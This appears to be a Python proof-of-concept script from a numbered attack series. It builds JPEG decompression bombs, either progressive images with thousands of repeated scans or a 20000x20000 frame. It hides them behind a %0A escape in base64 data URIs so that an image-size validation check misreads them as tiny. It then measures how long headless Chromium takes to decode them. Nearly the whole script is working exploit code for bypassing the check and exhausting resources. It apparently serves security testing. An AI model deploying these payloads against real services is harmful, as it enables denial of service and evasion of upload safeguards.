"""a03: the %0A escape (a01) against the JPEG checks: a progressive JPEG whose scans are repeated (libjpeg takes
repeated scans with a warning; round 41's 10,000-scan attack) and whose frame is patched large. The check's view
after the escape is 12 bits off: it counts SOS markers and SOF frames in that view, where a comment segment's
bytes read as a 16 x 16 frame. Prints what the check reads (scans, size) and what Chromium decodes."""
import base64, re, sys, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__))); sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
from jpegbomb import big_jpeg, smuggle, image_size
from playwright.sync_api import sync_playwright
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]

def repeat_scans(raw: bytes, times: int) -> bytes:
    """repeat the last scan (SOS header + its entropy data) `times` times before EOI"""
    sos = [m.start() for m in re.finditer(rb"\xff\xda", raw)]
    last = raw[sos[-1]:-2]
    return raw[:-2] + last * times + b"\xff\xd9"

for label, raw in [("progressive 4096x4096, 2000 extra scans", repeat_scans(big_jpeg(4096, 4096, progressive=True, size=256), 2000)),
                   ("baseline 20000x20000", big_jpeg(20000, 20000))]:
    T, B = smuggle(raw)
    P = base64.b64decode(T.replace("%", "")[:len(T.replace("%", "")) // 4 * 4])
    print(label, "| bytes", len(raw), "| SOS markers", raw.count(b"\xff\xda"), "| plain check:", image_size("image/jpeg", B),
          "| escaped check:", image_size("image/jpeg", T), "(SOS seen by the check:", P.count(b"\xff\xda"), ")", flush=True)
    for name, t in (("escaped", T),):
        open("/tmp/attack42-root-img/j3.html", "w").write(f'<img src="data:image/jpeg;base64,{t}">')
        with sync_playwright() as p:
            b = p.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
            pg = b.new_page(); pg.goto("file:///tmp/attack42-root-img/j3.html")
            t0 = time.time()
            r = pg.evaluate("async () => { const i = document.images[0]; try { await i.decode(); } catch(e) { return String(e) } return [i.naturalWidth, i.naturalHeight] }")
            pg.screenshot(path="/tmp/attack42-root-img/j3.png", timeout=300000); el = time.time() - t0
            b.close()
        print("   Chromium decodes", r, f"decode+paint {el:.1f}s", flush=True)
